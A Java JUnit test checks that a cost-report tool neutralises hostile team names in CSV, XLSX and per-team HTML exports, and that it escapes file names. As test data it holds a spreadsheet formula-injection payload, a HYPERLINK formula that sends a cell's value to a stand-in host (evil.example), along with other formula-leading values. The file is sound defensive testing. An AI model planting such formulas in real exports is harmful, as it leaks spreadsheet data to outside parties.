package dev.netcost.report;

import static org.assertj.core.api.Assertions.assertThat;

import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Instant;
import java.time.YearMonth;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.stream.Stream;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.ss.usermodel.Workbook;
import org.apache.poi.ss.usermodel.WorkbookFactory;
import org.apache.spark.sql.Row;
import org.apache.spark.sql.RowFactory;
import org.apache.spark.sql.SaveMode;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Team names chosen by someone hostile: formulas, leading signs, control characters, and names that
 * a naive file-name mapping merges.
 */
final class TestSafeExports {
  static final YearMonth MONTH = YearMonth.of(2026, 7);
  static final List<String> TEAMS =
      List.of(
          "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
          "+1+2",
          "-3",
          "@SUM(A1:A2)",
          "\tindent",
          "\rreturn",
          "a/b",
          "a_b",
          "a b",
          "A_b",
          "payments");

  @Test
  void csvCellsAreNeutralisedXlsxKeepsTheValuesAndEveryTeamHasItsOwnFile(@TempDir Path store)
      throws Exception {
    List<Row> rows = new ArrayList<>();
    for (int index = 0; index < TEAMS.size(); index++) {
      rows.add(
          RowFactory.create(
              "prod",
              TEAMS.get(index),
              "ns",
              "Deployment",
              "app",
              "internet",
              1_000L * (index + 1),
              0L,
              new BigDecimal(index + 1 + ".000000000"),
              BigDecimal.ZERO.setScale(9),
              new BigDecimal(index + 1 + ".000000000"),
              "USD",
              "2026-07-01"));
    }
    TestingSpark.session()
        .createDataFrame(rows, ReportFixture.CHARGEBACK_DAILY)
        .write()
        .partitionBy("date")
        .mode(SaveMode.Append)
        .parquet(store + "/tables/chargeback_daily");
    ReportResult result =
        MonthlyReport.run(
            TestingSpark.session(),
            store.toString(),
            MONTH,
            new ReportOptions(
                Clock.fixed(Instant.parse("2026-07-02T00:00:00Z"), ZoneOffset.UTC),
                Optional.empty(),
                ReportOptions.Pdf.SKIP));

    // CSV, read back with a parser that knows nothing about netcost: the team column of every row
    Map<String, String> csvTeams = new LinkedHashMap<>();
    for (List<String> record :
        Rfc4180.parse(
            Files.readString(
                store.resolve("reports/2026-07/teams-2026-07.csv"), StandardCharsets.UTF_8))) {
      csvTeams.put(record.get(1), record.get(6));
    }
    csvTeams.remove("team");
    assertThat(csvTeams)
        .containsEntry("'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "1.000000000")
        .containsEntry("'+1+2", "2.000000000")
        .containsEntry("'-3", "3.000000000")
        .containsEntry("'@SUM(A1:A2)", "4.000000000")
        .containsEntry("'\tindent", "5.000000000")
        .containsEntry("'\rreturn", "6.000000000")
        .containsEntry("a/b", "7.000000000")
        .containsEntry("payments", "11.000000000")
        .hasSize(TEAMS.size());
    assertThat(csvTeams.keySet())
        .allSatisfy(team -> assertThat("=+-@\t\r".indexOf(team.charAt(0))).isEqualTo(-1));
    String lines =
        Files.readString(
            store.resolve("reports/2026-07/chargeback-2026-07.csv"), StandardCharsets.UTF_8);
    for (List<String> record : Rfc4180.parse(lines).subList(1, TEAMS.size() + 1)) {
      assertThat("=+-@\t\r".indexOf(record.get(2).charAt(0))).isEqualTo(-1);
    }

    // XLSX: the values as they are (text cells are never evaluated)
    try (Workbook book =
        WorkbookFactory.create(store.resolve("reports/2026-07/chargeback-2026-07.xlsx").toFile())) {
      Sheet summary = book.getSheet("Summary");
      Set<String> names = new HashSet<>();
      for (int row = XlsxExport.TEAM_HEADER_ROW + 1; row <= summary.getLastRowNum() - 1; row++) {
        names.add(summary.getRow(row).getCell(0).getStringCellValue());
      }
      assertThat(names).containsExactlyInAnyOrderElementsOf(TEAMS);
      assertThat(book.getNumberOfSheets()).isEqualTo(2 + TEAMS.size());
    }

    // one statement per team, in distinct files
    assertThat(result.teamStatements()).hasSize(TEAMS.size());
    assertThat(new HashSet<>(result.teamStatements().values())).hasSize(TEAMS.size());
    try (Stream<Path> files = Files.list(store.resolve("reports/2026-07/teams"))) {
      assertThat(files.map(path -> path.getFileName().toString()))
          .hasSize(TEAMS.size())
          .contains(
              "a~2Fb-2026-07.html",
              "a_b-2026-07.html",
              "a~20b-2026-07.html",
              "A_b-2026-07.html",
              "~09indent-2026-07.html",
              "~3DHYPERLINK~28~22http~3A~2F~2Fevil.example~2F~3F~22~26A1~2C~22x~22~29-2026-07.html");
    }
    assertThat(MonthlyReport.fileName("")).isEqualTo("~");
    assertThat(MonthlyReport.fileName("~")).isEqualTo("~7E");
    assertThat(MonthlyReport.fileName("é")).isEqualTo("~C3~A9");
    assertThat(MonthlyReport.fileName(".hidden")).isEqualTo("~2Ehidden");
  }
}
